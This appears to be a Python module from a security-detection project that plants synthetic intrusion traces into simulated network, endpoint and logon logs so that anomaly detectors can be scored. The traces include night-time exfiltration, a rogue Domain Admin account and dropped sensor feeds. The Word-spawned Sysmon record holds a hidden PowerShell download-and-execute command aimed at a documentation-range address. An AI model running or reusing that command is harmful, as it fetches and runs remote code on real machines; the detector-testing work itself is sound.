"""Planted behaviour for the baselines: what a month of history should make stand out, and its truth.

:func:`plant` works on a folder written by ``winnow simulate --logons`` (weeks of network, endpoint and
logon logs with weekday and working-hour seasonality) and adds, after ``quiet_days`` of clean history,
one of each of these, in the logs' own formats (Zeek conn, Winlogbeat Security and Sysmon JSON,
auditd), as real intrusions and outages leave them:

* ``exfil_night``: a workstation sends about 4 GB in a dozen TLS connections to one outside address
  between 02:00 and 03:00 (Zeek ``conn.log``);
* ``unusual_hour_logon``: a person who works days logs on by remote desktop at 03:00 and reaches the
  home file server (Security 4624 type 10 and 3);
* ``new_hosts_logons``: a person logs on over the network to a dozen workstations and two servers
  never touched before, within forty minutes (4624 type 3 with 4672);
* ``new_admin``: an account is created and added to Domain Admins by an ordinary user (4720, 4728);
* ``rare_parent_child``: Word starts a hidden command shell that starts PowerShell (Sysmon 1);
* ``silent_endpoint``: a Windows endpoint's logs stop (all its Sysmon events from a morning on) while
  the network still sees it;
* ``feed_drop``: a Linux endpoint's auditd feed loses 90 % of its records for its last two days;
* ``clock_drift``: a Windows endpoint's clock drifts ahead by a minute a day from the middle of the
  month (every Sysmon time of it shifted).

The truth (``<out>/behaviour_truth.json``) names each plant by ``kind``, ``key`` (the host, address,
user or account an analyst would look up), ``day`` and the detectors meant to find it; scoring is
:mod:`winnow.sim.score_behaviour`.
"""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

import numpy as np

from winnow.sim import logons as logons_sim

KINDS: dict[str, tuple[str, ...]] = {
    "exfil_night": ("baseline",),
    "unusual_hour_logon": ("baseline",),
    "new_hosts_logons": ("baseline", "lateral"),
    "new_admin": ("accounts",),
    "rare_parent_child": ("first_seen",),
    "silent_endpoint": ("sensor_health",),
    "feed_drop": ("sensor_health",),
    "clock_drift": ("sensor_health",),
}
DAY = 86400.0


def plant(out: str | Path, seed: int = 0, quiet_days: int = 14) -> dict:
    """Add the plants to the simulated folder ``out`` (see the module docstring); return the truth written."""
    out = Path(out)
    truth = json.loads((out / "truth.json").read_text())
    days = int(truth["days"])
    if days < quiet_days + 6:
        raise ValueError(f"behaviour plants need at least {quiet_days + 6} days (quiet_days + 6), not {days}")
    start = dt.date.fromisoformat(truth["start"])
    base = dt.datetime(start.year, start.month, start.day, tzinfo=dt.UTC).timestamp()
    rng = np.random.default_rng([seed, 0xBE4A])
    hosts = truth["endpoint"]["hosts"]
    windows = [h for h in hosts if h["os"] == "windows"]
    linux = [h for h in hosts if h["os"] == "linux"]
    picks = rng.choice(len(windows), size=3, replace=False)
    silent, drift, office = (windows[int(i)] for i in picks)
    dropped = linux[int(rng.integers(len(linux)))]
    others = [h for h in hosts if h not in (silent, drift, office, dropped)]
    exfil = others[int(rng.integers(len(others)))]

    logons_truth = json.loads((out / "logons_truth.json").read_text())
    fleet = logons_sim.build_fleet(int(logons_truth["users"]), np.random.default_rng([logons_truth["seed"], 0x106045]))
    people = [i for i in range(len(fleet.users)) if i not in fleet.admins]
    night, wanderer, creator = (int(i) for i in rng.choice(people, size=3, replace=False))

    weekdays = [d for d in range(quiet_days, days - 3) if (start + dt.timedelta(days=d)).weekday() < 5]
    day = {kind: weekdays[k % len(weekdays)] for k, kind in enumerate(
        ("exfil_night", "new_admin", "rare_parent_child", "unusual_hour_logon", "new_hosts_logons"))}
    w = logons_sim.Writer(start)
    w.records = {h: 9_000_000 for h in [*fleet.workstations, *fleet.servers]}  # after the day logs' record ids
    planted = [
        _exfil(out, rng, base, day["exfil_night"], exfil),
        _night_logon(w, fleet, base, day["unusual_hour_logon"], night),
        _wander(w, fleet, rng, base, day["new_hosts_logons"], wanderer),
        _new_admin(w, fleet, rng, base, day["new_admin"], creator),
        _office_shell(out, rng, base, day["rare_parent_child"], office),
        _silence(out, start, days - 3, silent),
        _drop(out, start, days - 2, dropped),
        _drift(out, start, quiet_days // 2 + 7, drift),
    ]
    w.flush(out, days, suffix="planted")
    for p in planted:
        p["detectors"] = list(KINDS[p["kind"]])
        p["date"] = (start + dt.timedelta(days=p["day"])).isoformat()
    result = {"seed": seed, "days": days, "start": truth["start"], "quiet_days": quiet_days, "planted": planted}
    (out / "behaviour_truth.json").write_text(json.dumps(result, indent=1) + "\n")
    return result


def _exfil(out: Path, rng: np.random.Generator, base: float, day: int, host: dict) -> dict:
    dst = f"185.{int(rng.integers(100, 200))}.{int(rng.integers(0, 255))}.{int(rng.integers(1, 254))}"
    t0 = base + day * DAY + 2 * 3600 + float(rng.uniform(0, 600))
    rows, total = [], 0
    for k in range(12):
        sent = int(rng.uniform(300e6, 380e6))
        total += sent
        ts = t0 + 240 * k
        rows.append({"ts": f"{ts:.6f}", "uid": f"Cx{seed_hex(rng)}", "id.orig_h": host["ip"],
                     "id.orig_p": str(int(rng.integers(49152, 65535))), "id.resp_h": dst, "id.resp_p": "443",
                     "proto": "tcp", "service": "ssl", "duration": f"{float(rng.uniform(180, 230)):.6f}",
                     "orig_bytes": str(sent), "resp_bytes": str(int(sent / 900)), "conn_state": "SF",
                     "local_orig": "T", "local_resp": "F", "missed_bytes": "0", "history": "ShADadFf",
                     "orig_pkts": str(sent // 1400), "orig_ip_bytes": str(sent + 40 * (sent // 1400)),
                     "resp_pkts": str(sent // 2800), "resp_ip_bytes": str(sent // 900 + 40 * (sent // 2800))})
    _zeek_rows(out, _date(base, day), "conn", rows)
    return {"kind": "exfil_night", "key": host["ip"], "host": host["host"], "day": day, "dst": dst,
            "bytes": total, "hour": 2}


def _night_logon(w: logons_sim.Writer, fleet: logons_sim.Fleet, base: float, day: int, i: int) -> dict:
    user, ip, sid = fleet.users[i], fleet.ips[i], fleet.sids[fleet.users[i]]
    t = base + day * DAY + 3 * 3600 + 1200
    w.logon(t, fleet.workstations[i], user, "10.20.250.77", 10, sid=sid)
    w.logon(t + 90, fleet.file_servers[i % len(fleet.file_servers)], user, ip, 3, sid=sid)
    w.logon(t + 400, fleet.file_servers[(i + 1) % len(fleet.file_servers)], user, ip, 3, sid=sid)
    return {"kind": "unusual_hour_logon", "key": user, "host": fleet.workstations[i], "day": day, "hour": 3}


def _wander(w: logons_sim.Writer, fleet: logons_sim.Fleet, rng: np.random.Generator, base: float, day: int,
            i: int) -> dict:
    user, ip, sid = fleet.users[i], fleet.ips[i], fleet.sids[fleet.users[i]]
    home = {fleet.file_servers[i % len(fleet.file_servers)], fleet.app_servers[(i // 7) % len(fleet.app_servers)]}
    stations = [h for k, h in enumerate(fleet.workstations) if k != i]
    servers = [h for h in fleet.servers if h not in home and h not in fleet.dcs]
    targets = (rng.choice(stations, size=min(12, len(stations)), replace=False).tolist()
               + rng.choice(servers, size=min(2, len(servers)), replace=False).tolist())
    t = base + day * DAY + 11 * 3600
    for k, host in enumerate(targets):
        w.logon(t + 170 * k, host, user, ip, 3, privileged=True, sid=sid)
    return {"kind": "new_hosts_logons", "key": user, "day": day, "hosts": targets, "hour": 11}


def _new_admin(w: logons_sim.Writer, fleet: logons_sim.Fleet, rng: np.random.Generator, base: float, day: int,
               i: int) -> dict:
    account = f"adm_{int(rng.integers(0x100, 0xfff)):x}"
    sid = f"S-1-5-21-1004336348-1177238915-682003330-{int(rng.integers(60_000, 70_000))}"
    t = base + day * DAY + 16 * 3600 + 700
    by = {"SubjectUserName": fleet.users[i], "SubjectDomainName": logons_sim.DOMAIN}
    w.event(t, "dc01", 4720, {"TargetUserName": account, "TargetDomainName": logons_sim.DOMAIN, "TargetSid": sid, **by})
    w.event(t + 45, "dc01", 4728, {"MemberName": f"CN={account},CN=Users,DC=corp,DC=local", "MemberSid": sid,
                                   "TargetUserName": "Domain Admins", "TargetDomainName": logons_sim.DOMAIN, **by})
    return {"kind": "new_admin", "key": account, "day": day, "by": fleet.users[i]}


def _office_shell(out: Path, rng: np.random.Generator, base: float, day: int, host: dict) -> dict:
    t = base + day * DAY + 10 * 3600 + float(rng.uniform(0, 3600)) + host.get("clock_offset_s", 0.0)
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    cmd = "C:\\Windows\\System32\\cmd.exe"
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    user = f"CORP\\{host['user']}"
    guids = [f"{{{seed_hex(rng, 8)}-6ae5-56ca-{seed_hex(rng, 4)}-{seed_hex(rng, 12)}}}" for _ in range(3)]
    pids = [int(p) for p in rng.integers(2000, 30000, size=3)]
    chain = [(word, f'"{word}" /n "C:\\Users\\{host["user"]}\\Downloads\\Invoice_7731.doc"',
              "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", 0),
             (cmd, f'{cmd} /c powershell -nop -w hidden -c "IEX((New-Object Net.WebClient).DownloadString('
                   f"'http://203.0.113.{int(rng.integers(2, 250))}/a'))\"", word, "", 1),
             (ps, "powershell -nop -w hidden -c \"IEX((New-Object Net.WebClient).DownloadString("
                  "'http://203.0.113.9/a'))\"", cmd, "", 2)]
    lines = []
    for k, (image, line, parent, parent_line, depth) in enumerate(chain):
        when = t + 2.5 * k
        data = {"RuleName": "-", "UtcTime": _utc(when), "ProcessGuid": guids[depth], "ProcessId": str(pids[depth]),
                "Image": image, "FileVersion": "-", "Description": "-", "Product": "-", "Company": "-",
                "OriginalFileName": image.rsplit("\\", 1)[1], "CommandLine": line,
                "CurrentDirectory": f"C:\\Users\\{host['user']}\\Documents\\", "User": user,
                "LogonGuid": "{15b94cc6-0000-0000-0000-00000004b1a2}", "LogonId": "0x4b1a2", "TerminalSessionId": "1",
                "IntegrityLevel": "Medium", "Hashes": f"SHA256={seed_hex(rng, 64).upper()}",
                "ParentProcessGuid": guids[depth - 1] if depth else "{00000000-0000-0000-0000-000000000000}",
                "ParentProcessId": str(pids[depth - 1]) if depth else "4120", "ParentImage": parent,
                "ParentCommandLine": parent_line or chain[depth - 1][1], "ParentUser": user}
        lines.append(_sysmon_line(host["host"], when, 1, data, 900_000 + k))
    path = out / "endpoint" / _date(base, day) / "sysmon.planted.json"
    path.write_text("".join(lines))
    return {"kind": "rare_parent_child", "key": host["host"], "ip": host["ip"], "day": day,
            "pairs": ["winword.exe -> cmd.exe", "cmd.exe -> powershell.exe"]}


def _silence(out: Path, start: dt.date, day: int, host: dict) -> dict:
    cut = dt.datetime(start.year, start.month, start.day, 9, tzinfo=dt.UTC) + dt.timedelta(days=day)
    needle = f'"computer_name":"{host["host"]}"'.encode()
    for path in _endpoint_files(out, "sysmon.json"):
        _rewrite(path, lambda line, n=needle: None if n in line and _sysmon_time(line) >= cut.timestamp() else line)
    return {"kind": "silent_endpoint", "key": host["host"], "ip": host["ip"], "day": day, "since": cut.isoformat()}


def _drop(out: Path, start: dt.date, day: int, host: dict) -> dict:
    first = (start + dt.timedelta(days=day)).isoformat()
    needle = f"node={host['host']} ".encode()
    keep = 10  # one event in ten survives

    def thin(line: bytes) -> bytes | None:
        if not line.startswith(needle):
            return line
        serial = line.split(b"msg=audit(", 1)[1].split(b")", 1)[0].rsplit(b":", 1)[1]
        return line if int(serial) % keep == 0 else None

    for path in _endpoint_files(out, "audit.log"):
        if path.parent.name >= first:
            _rewrite(path, thin)
    return {"kind": "feed_drop", "key": host["host"], "ip": host["ip"], "day": day, "kept_share": 1 / keep}


def _drift(out: Path, start: dt.date, day: int, host: dict, per_day_s: float = 60.0) -> dict:
    t0 = dt.datetime(start.year, start.month, start.day, tzinfo=dt.UTC).timestamp() + day * DAY
    needle = f'"computer_name":"{host["host"]}"'.encode()

    def shift(line: bytes) -> bytes:
        if needle not in line:
            return line
        obj = json.loads(line)
        t = _sysmon_time(line)
        ahead = max(0.0, t - t0) / DAY * per_day_s
        if not ahead:
            return line
        obj["@timestamp"] = logons_sim._iso(t + ahead)
        data = obj["winlog"]["event_data"]
        if "UtcTime" in data:
            when = dt.datetime.strptime(data["UtcTime"], "%Y-%m-%d %H:%M:%S.%f").replace(tzinfo=dt.UTC).timestamp()
            data["UtcTime"] = _utc(when + ahead)
        return (json.dumps(obj, separators=(",", ":")) + "\n").encode()

    for path in _endpoint_files(out, "sysmon.json"):
        _rewrite(path, shift)
    return {"kind": "clock_drift", "key": host["host"], "ip": host["ip"], "day": day, "seconds_per_day": per_day_s}


# -- helpers ---------------------------------------------------------------------------------------------------

def seed_hex(rng: np.random.Generator, n: int = 16) -> str:
    return "".join("0123456789abcdef"[int(c)] for c in rng.integers(0, 16, size=n))


def _date(base: float, day: int) -> str:
    return dt.datetime.fromtimestamp(base + day * DAY, dt.UTC).date().isoformat()


def _utc(t: float) -> str:
    return dt.datetime.fromtimestamp(t, dt.UTC).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]


def _sysmon_line(host: str, t: float, event_id: int, data: dict[str, Any], record: int) -> str:
    obj = {"@timestamp": logons_sim._iso(t + 0.004), "host": {"name": host}, "winlog": {
        "channel": "Microsoft-Windows-Sysmon/Operational", "computer_name": host, "event_id": event_id,
        "provider_name": "Microsoft-Windows-Sysmon", "record_id": record, "event_data": data}}
    return json.dumps(obj, separators=(",", ":")) + "\n"


def _sysmon_time(line: bytes) -> float:
    at = line.index(b'"@timestamp":"') + 14
    return dt.datetime.fromisoformat(line[at:at + 24].decode().replace("Z", "+00:00")).timestamp()


def _endpoint_files(out: Path, name: str) -> list[Path]:
    return sorted((out / "endpoint").glob(f"*/{name}"))


def _rewrite(path: Path, keep) -> None:
    """Rewrite ``path`` line by line through ``keep`` (None drops the line), atomically."""
    tmp = path.with_name(path.name + ".tmp")
    with path.open("rb") as src, tmp.open("wb") as dst:
        for line in src:
            new = keep(line)
            if new is not None:
                dst.write(new)
    tmp.replace(path)


def _zeek_rows(out: Path, date: str, log: str, rows: list[dict[str, str]]) -> None:
    """Write ``rows`` as a second Zeek log of ``date`` with the day's own header."""
    source = out / "zeek" / date / f"{log}.log"
    header = []
    with source.open() as f:
        for line in f:
            if not line.startswith("#"):
                break
            header.append(line)
    fields = next(h for h in header if h.startswith("#fields")).rstrip("\n").split("\t")[1:]
    body = ["\t".join(r.get(name, "-") for name in fields) + "\n" for r in rows]
    (out / "zeek" / date / f"{log}.planted.log").write_text("".join(header) + "".join(body) + "#close\t-\n")
